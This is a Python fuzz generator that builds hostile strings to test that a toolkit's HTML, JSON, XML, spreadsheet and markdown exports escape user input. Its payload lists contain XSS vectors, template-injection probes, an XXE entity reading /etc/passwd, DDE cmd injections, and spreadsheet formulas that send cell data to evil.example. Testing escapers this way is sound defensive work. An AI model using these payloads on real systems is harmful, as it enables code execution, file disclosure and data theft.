"""Hostile text for every field a user controls that reaches an export, built by rule (the export fuzz).

A third generator beside ``privacy_corpus`` and ``leak_corpus`` (which build personal data): this one builds
text that attacks the *file formats* the toolkit writes, and shares no code with the toolkit's escapers (no
import of trygghet_geo). Each string is a combination of parts of one class, sometimes with a part of a
second class, around a visible marker (``Zq`` and letters) so that the string can be found again in every
output and compared with what was typed.

Classes (:data:`CLASSES`):

- ``html``: breakers of script, comment, CDATA, style, title and textarea blocks, attribute and quote
  breakers, ``javascript:`` URLs in several spellings, pre-escaped markup (``&lt;img …&gt;``) that must stay
  text; every executable one sets ``window.__pwned``;
- ``template``: Jinja ``{{ }}``/``{% %}``/``{# #}``, ``raw`` blocks, JavaScript ``${}``, AngularJS sandbox
  escapes, matplotlib mathtext (``$…$``, which a chart title would parse);
- ``json``: U+2028/U+2029, lone surrogates, NUL, a literal ``\\u0000``, quote-bracket-paren breakers,
  trailing backslashes;
- ``xml``: control characters XML 1.0 cannot hold, U+FFFE/U+FFFF, entities (``&amp;amp;``, ``&#x0;``,
  ``&e;``), a DOCTYPE with an external ENTITY, CDATA, a processing instruction;
- ``formula``: ``=``, ``+``, ``-``, ``@``, DDE ``|`` behind blanks, quotes, a BOM, zero-width characters,
  full-width and small forms, tab, CR and LF;
- ``hidden``: bidi overrides, embeddings and isolates, zero-width characters inside words;
- ``long``: 33,000 to 120,000 characters with a breaker at the end;
- ``markdown``: markdown links and images with ``javascript:``/remote targets, tables, CSV separators,
  quotes and line breaks.

:func:`hostile_strings` gives the strings; :func:`expected_shown` what a reader should see of one (control,
format, private-use and surrogate characters removed, line breaks as spaces, whitespace collapsed);
:func:`write_export_town` writes a small town whose every typed field carries them.
"""

from __future__ import annotations

import functools
import random
import re
import unicodedata
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any

__all__ = [
    "CLASSES",
    "ExportTown",
    "Hostile",
    "expected_shown",
    "hostile_strings",
    "marker",
    "typable",
    "write_export_town",
]

PWN = "window.__pwned=1"

_HTML = [
    f"</script><script>{PWN}</script>",
    f"</SCRIPT ><img src=x onerror={PWN}>",
    f"</script\t/><svg onload={PWN}>",
    f"<!--<script>{PWN}</script>-->",
    "<!-- ",
    f"]]><script>{PWN}</script>",
    f'"><svg/onload={PWN}>',
    f"' autofocus onfocus='{PWN}",
    f'" onmouseover="{PWN}" x="',
    f"` onerror={PWN} `",
    f"</style><img src=x onerror={PWN}>",
    f"</title><img src=x onerror={PWN}>",
    f"</textarea></noscript><img src=x onerror={PWN}>",
    f'<a href="javascript:{PWN}">klicka</a>',
    f"javascript:{PWN}",
    f"JaVaScRiPt&colon;{PWN}",
    f" \tjavascript:{PWN}",
    "data:text/html,<script>parent.__pwned=1</script>",
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
    f'<math><mi xlink:href="javascript:{PWN}">x</mi></math>',
    f"</div></td></tr></table></details><img src=x onerror={PWN}>",
    f"<img src=x onerror={PWN}",
    f"&lt;img src=x onerror={PWN}&gt;",
    f"&#60;script&#62;{PWN}&#60;/script&#62;",
    f'<svg><style><img src=x onerror="{PWN}"></style></svg>',
    f"<base href=javascript:{PWN}//>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    f"<x-pwn onclick={PWN}>tryck</x-pwn>",
]
_TEMPLATE = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{% raw %}",
    "{% endraw %}",
    "{# kommentar",
    "#}",
    "{{ config.items() }}",
    "${" + PWN + "}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('" + PWN + "')()}}",
    "[[7*7]]",
    "{{",
    "}}",
    "$\\foo{$",
    "$x^2$ kr",
]
_JSON = [
    "\u2028",
    "\u2029",
    "\ud800",
    "\udfff",
    "\x00",
    "\\u0000",
    '"}]});' + PWN + ";//",
    "'});" + PWN + ";//",
    "\\",
    '\\"',
    "\x7f",
    "\\u2028",
    '{"a":',
]
_XML = [
    "\x01",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x1f",
    "\ufffe",
    "\uffff",
    "&amp;amp;",
    "&#x0;",
    "&#0;",
    "&nbsp;",
    "&e;",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<![CDATA[x]]>",
    '<?xml-stylesheet href="javascript:' + PWN + '"?>',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>",
    "<w:fldSimple w:instr='HYPERLINK \"http://evil.example\"'/>",
]
_FORMULA_LEADS = ["", "", " ", "  ", "\t", "\r", "\n", "\ufeff", "\u200b", '"', "\u3000", "\u00a0", "\u2060"]
_FORMULA_SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212"]
_FORMULA_TAILS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"klick")',
    "1+1",
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "2+5+cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
]
_HIDDEN = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200d",
           "\u200e", "\u200f", "\u061c", "\ufeff", "\u2060", "\u00ad"]  # fmt: skip
_MARKDOWN = [
    "[klicka här](javascript:" + PWN + ")",
    "![bild](http://evil.example/spår.png)",
    "<http://evil.example>",
    "| a | b |\n|---|---|",
    "**fet** _kursiv_ `kod`",
    "# Rubrik",
    "a;b;c",
    'a"b""c',
    "rad ett\r\nrad två",
    'sista;"',
    '"; =1+1',
    ";;;;;;;;",
    "$$ \\frac{1}{0} $$",
]

CLASSES = ("html", "template", "json", "xml", "formula", "hidden", "long", "markdown")
_PARTS = {"html": _HTML, "template": _TEMPLATE, "json": _JSON, "xml": _XML, "hidden": _HIDDEN,
          "markdown": _MARKDOWN}  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """A hostile text, its class, the rule that built it and its marker."""

    text: str
    cls: str
    rule: str
    marker: str


def marker(i: int) -> str:
    """A visible marker no escaper or redactor touches: ``Zq`` and four lower-case letters."""
    letters = ""
    for _ in range(4):
        i, r = divmod(i, 26)
        letters += chr(ord("a") + r)
    return "Zq" + letters


def _one(cls: str, rng: random.Random, mark: str) -> tuple[str, str]:
    if cls == "formula":
        lead, sign, tail = rng.choice(_FORMULA_LEADS), rng.choice(_FORMULA_SIGNS), rng.choice(_FORMULA_TAILS)
        rule = f"lead={lead!r} sign={sign!r}"
        if rng.random() < 0.25:  # a formula after a line break inside an ordinary text
            brk = rng.choice(["\r", "\n", "\r\n", "\u2028", "\x85", "\v"])
            return f"{mark} vanlig text{brk}{lead}{sign}{tail}", rule + " after a break"
        return f"{lead}{sign}{tail} {mark}", rule
    if cls == "hidden":
        word = rng.choice(["Storgatan", "Torget", "Parken", "Skolan"])
        cut = rng.randrange(1, len(word))
        chars = "".join(rng.choice(_HIDDEN) for _ in range(rng.choice([1, 2, 3])))
        return f"{mark} {word[:cut]}{chars}{word[cut:]}", f"hidden {chars!r}"
    if cls == "long":
        fill = rng.choice(["ö", "a ", "<b>", "&amp;", "\u0301a", "😀"])
        n = rng.choice([33_000, 40_000])
        return f"{mark} " + fill * (n // len(fill)) + rng.choice(_HTML), f"long {n} {fill!r}"
    parts = _PARTS[cls]
    k = rng.choice([1, 1, 2])
    chosen = [rng.choice(parts) for _ in range(k)]
    sep = rng.choice([" ", "", " ", "\n"])
    if rng.random() < 0.5:
        return f"{mark} " + sep.join(chosen), f"{cls} tail"
    return sep.join(chosen) + f" {mark}", f"{cls} head"


def hostile_strings(n: int, seed: int, *, start: int = 0) -> list[Hostile]:
    """``n`` hostile strings cycling through :data:`CLASSES`; one in four carries a part of a second class.

    The full space (parts x combinations x leads x separators) is unbounded; the tests draw from it by seed.
    """
    rng = random.Random(seed)
    out = []
    for i in range(n):
        cls = CLASSES[i % len(CLASSES)]
        mark = marker(start + i)
        text, rule = _one(cls, rng, mark)
        if cls not in ("long", "formula") and rng.random() < 0.25:
            other = rng.choice([c for c in _PARTS if c != cls])
            extra = rng.choice(_PARTS[other])
            text, rule = text + " " + extra, rule + f" + {other}"
        out.append(Hostile(text, cls, rule, mark))
    return out


_DROP = {"Cc", "Cf", "Cs", "Co", "Cn"}
_BREAKS = "\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029\t"


@functools.lru_cache(maxsize=4096)
def expected_shown(text: str) -> str:
    """What a reader should see of ``text`` in any export, compared after the same normalising: NFC, line
    breaks and tabs as spaces, control, format, private-use, unassigned and surrogate characters out,
    whitespace collapsed and stripped."""
    text = "".join(" " if c in _BREAKS else c for c in text)
    text = "".join(c for c in text if unicodedata.category(c) not in _DROP)
    return re.sub(r"\s+", " ", unicodedata.normalize("NFC", text)).strip()


# --- a town whose every typed field carries the strings ----------------------------------------------------
@dataclass
class ExportTown:
    """The written files and the hostile strings planted in them, by field."""

    folder: Path
    incidents: Path
    observations: Path
    network: Path
    areas: Path
    plan: Path
    other: Path
    title: str
    planted: dict[str, list[Hostile]] = field(default_factory=dict)  # field -> strings
    hotlist_end: str = ""

    def strings(self) -> list[Hostile]:
        return [h for hs in self.planted.values() for h in hs]


def typable(text: str) -> str:
    """What a text file or a command line can carry of ``text``: no NUL (a file with NUL bytes is refused as
    binary, rightly) and no lone surrogate (no UTF-8 file or argument holds one). The Python API gets both."""
    return "".join(c for c in text if c != "\x00" and unicodedata.category(c) != "Cs")


def _file_safe(text: str) -> str:
    """A hostile text a file system accepts as a name (no ``/`` or NUL, no surrogate, under 120 bytes)."""
    text = "".join(c for c in text if c not in "/\x00" and unicodedata.category(c) != "Cs")
    while len(text.encode()) > 120:
        text = text[:-1]
    return text


def write_export_town(folder: Path, *, seed: int = 0, n_per_field: int = 8) -> ExportTown:
    """Write an incident CSV, a safety-walk XLSX, a street layer, an areas layer, a measures register and an
    "other sources" text whose categories, place texts, notes, measures, user columns, column headers,
    street names, area names, register texts and file names carry :func:`hostile_strings`.

    The incidents make a hotspot of 30 (over k at any setting), so places, density and trends are drawn.
    """
    import csv

    import geopandas as gpd
    import openpyxl
    import privacy_town as pt
    from shapely.geometry import LineString, box

    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    fields = ["incident category", "incident place", "incident note", "incident user column",
              "incident header", "observation place", "observation category", "observation note",
              "observation measure", "observation user column", "observation header", "street name",
              "area name", "plan problem", "plan measure", "plan responsible", "plan notes", "other sources",
              "title", "file name"]  # fmt: skip
    pool = hostile_strings(n_per_field * len(fields), seed=seed)
    rng.shuffle(pool)
    planted = {f: pool[i * n_per_field : (i + 1) * n_per_field] for i, f in enumerate(fields)}
    # headers and file names are short in real life; the long class stays in the cells
    for f in ("incident header", "observation header", "file name", "title", "street name", "area name"):
        planted[f] = [
            h if h.cls != "long" else Hostile(h.text[:300], h.cls, h.rule, h.marker) for h in planted[f]
        ]
    # file names: what a file system takes of the text, under markers of their own; the incident file's
    # name starts with a formula (the reader keeps the name in ``source``)
    formula = f"={rng.choice(_FORMULA_TAILS)} {marker(0)}"  # openpyxl would write it as a formula cell
    names = [Hostile(formula, "formula", "file name", marker(0)), *planted["file name"][1:3]]
    planted["file name"] = [
        Hostile(_file_safe(h.text.replace(h.marker, marker(90_000 + i))), h.cls, h.rule, marker(90_000 + i))
        for i, h in enumerate(names)
    ]
    fname, oname, sname = (h.text for h in planted["file name"])
    town = ExportTown(
        folder, folder / f"{fname} brott.csv", folder / f"vandring {oname}.xlsx",
        folder / "gator.gpkg", folder / "omraden.geojson", folder / "atgardsplan.csv",
        folder / f"skolan {sname}.txt", typable(planted["title"][0].text), planted,
    )  # fmt: skip
    planted["title"] = planted["title"][:1]

    def take(f: str, i: int) -> str:
        """The field's i-th string; a long one in full only the first time round (files stay small)."""
        h = planted[f][i % len(planted[f])]
        return typable(h.text if h.cls != "long" or i < len(planted[f]) else h.text[:300])

    # streets: a 7 x 7 grid 100 m apart, named by the user's layer
    x0, y0 = pt.X0, pt.Y0
    lines, names = [], []
    for i in range(7):
        lines.append(LineString([(x0, y0 + 100 * i), (x0 + 600, y0 + 100 * i)]))
        names.append(take("street name", i))
        lines.append(LineString([(x0 + 100 * i, y0), (x0 + 100 * i, y0 + 600)]))
        names.append(f"Tvärgatan {i + 1}" if i % 2 else take("street name", i + 7))
    gpd.GeoDataFrame({"name": names}, geometry=lines, crs="EPSG:3006").to_file(town.network, engine="pyogrio")
    # areas: four districts covering the town
    quads = [box(x0 + a, y0 + b, x0 + a + 350, y0 + b + 350) for b in (-50, 300) for a in (-50, 300)]
    gpd.GeoDataFrame(
        {"omradeskod": ["A1", "A2", "A3", "A4"], "namn": [take("area name", i) for i in range(4)],
         "befolkning": [1200, 900, 1500, 700]}, geometry=quads, crs="EPSG:3006",
    ).to_file(town.areas, driver="GeoJSON", engine="pyogrio")  # fmt: skip

    # incidents: 30 in one spot on a street, 30 more along another, and some with place text only
    xs = [x0 + 300 + rng.uniform(-20, 20) for _ in range(30)] + [x0 + 100 + 15 * i for i in range(30)]
    ys = [y0 + 300 + rng.uniform(-1.5, 1.5) for _ in range(30)] + [
        y0 + 500 + rng.uniform(-1, 1) for _ in range(30)
    ]
    lon, lat = pt._wgs84(xs, ys)
    header = ["Ärendenummer", "Brottstyp", "Datum", "Plats", "Latitud", "Longitud", "Anteckning"]
    header += [take("incident header", i) for i in range(len(planted["incident header"]))]
    start = date(2024, 1, 3)
    rows = []
    n = len(xs) + 6
    last = start
    for i in range(n):
        located = i < len(xs)
        day = start + timedelta(days=(i * 23) % 640)
        last = max(last, day)
        category = rng.choice(["Stöld", "Misshandel", "Skadegörelse"])
        if i % 3 == 1:
            category = take("incident category", i)
        rows.append([
            f"5000-K{300000 + i}-24", category, f"{day.isoformat()} {i % 24:02d}:{(i * 7) % 60:02d}",
            take("incident place", i), f"{lat[i]:.7f}".replace(".", ",") if located else "",
            f"{lon[i]:.7f}".replace(".", ",") if located else "", take("incident note", i),
            *[take("incident user column", i + j) for j in range(len(planted["incident header"]))],
        ])  # fmt: skip
    with town.incidents.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, delimiter=";")
        w.writerow(header)
        w.writerows(rows)
    town.hotlist_end = (last + timedelta(days=2)).isoformat()

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Vandring"
    obs_header = ["Datum", "Plats", "Kategori", "Anteckning", "Åtgärdsförslag", "Latitud", "Longitud"]
    obs_header += [take("observation header", i) for i in range(3)]
    _append_text_row(sheet, obs_header)
    for i in range(24):
        ox, oy = x0 + rng.choice([100, 300, 500]) + rng.uniform(-2, 2), y0 + rng.uniform(5, 595)
        (olon,), (olat,) = pt._wgs84([ox], [oy])
        category = (
            rng.choice(["Belysning", "Vegetation", "Klotter"]) if i % 2 else take("observation category", i)
        )
        row = [f"2025-{1 + i % 12:02d}-{1 + i % 27:02d}", take("observation place", i), category,
               take("observation note", i), take("observation measure", i), olat, olon,
               *[take("observation user column", i + j) for j in range(3)]]  # fmt: skip
        _append_text_row(sheet, row)
    book.save(town.observations)

    plan_rows = [["Plats", "Problem", "Åtgärd", "Ansvarig", "Mätbart mål", "Startdatum", "Uppföljningsdatum",
                  "Status", "Anteckningar"]]  # fmt: skip
    for i in range(8):
        plan_rows.append([f"A{1 + i % 4}", take("plan problem", i), take("plan measure", i),
                          take("plan responsible", i), "-20 %", "2025-06-01", "", "pågår",
                          take("plan notes", i)])  # fmt: skip
    with town.plan.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, delimiter=";").writerows(plan_rows)
    town.other.write_text("\n\n".join(take("other sources", i) for i in range(8)), encoding="utf-8")
    return town


def _xlsx_safe(text: str) -> str:
    """What a workbook can hold of a text (openpyxl refuses XML-invalid characters; Excel cells hold 32,767
    characters): a user's own workbook never holds more."""
    text = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "", text)
    return text[:32_767]


def _append_text_row(sheet: Any, row: list[Any]) -> None:
    """Append ``row``; a text that starts with ``=`` stays text (as a user types it after an apostrophe)."""
    sheet.append([_xlsx_safe(v) if isinstance(v, str) else v for v in row])
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"
